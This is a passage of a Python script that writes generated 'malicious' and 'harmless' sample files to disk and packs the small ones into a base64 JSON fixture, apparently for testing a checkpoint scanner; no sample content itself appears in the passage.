    for maker in (archives, others, code_pickles):
        try:
            for key, data in maker():
                yield (key if "/" in key else f"{maker.__name__}-{key}"), data
        except ImportError as error:
            print(f"left out of {maker.__name__}: {error}", file=sys.stderr)


def write(folder, files):
    count = 0
    for path, data in files:
        if data is None:
            continue
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data if isinstance(data, bytes) else data.encode())
        count += 1
    return count


MOST_OF_FIXTURE = 3000


def make_fixtures(folder):
    """Tests/CheckpointsTests/Fixtures/scan/corpus.json: {"malicious": {name: base64}, "harmless": {name: base64}}."""
    out = {}
    for kind in ("malicious", "harmless"):
        paths = sorted(path for path in (folder / kind).rglob("*") if path.is_file())
        small = [path for path in paths if path.stat().st_size <= MOST_OF_FIXTURE]
        out[kind] = {
            str(path.relative_to(folder / kind)): base64.b64encode(path.read_bytes()).decode() for path in small
        }
    target = Path(__file__).resolve().parents[1] / "Tests/CheckpointsTests/Fixtures/scan/corpus.json"
    target.parent.mkdir(exist_ok=True)
    target.write_text(json.dumps(out, indent=1) + "\n")


def main():
    folder = Path(sys.argv[1])
    if "--fixtures" in sys.argv:
        return make_fixtures(folder)
    print(f"malicious: {write(folder / 'malicious', malicious())}")
    import scan_harmless

    print(f"harmless: {scan_harmless.write(folder / 'harmless')}")


if __name__ == "__main__":
    main()
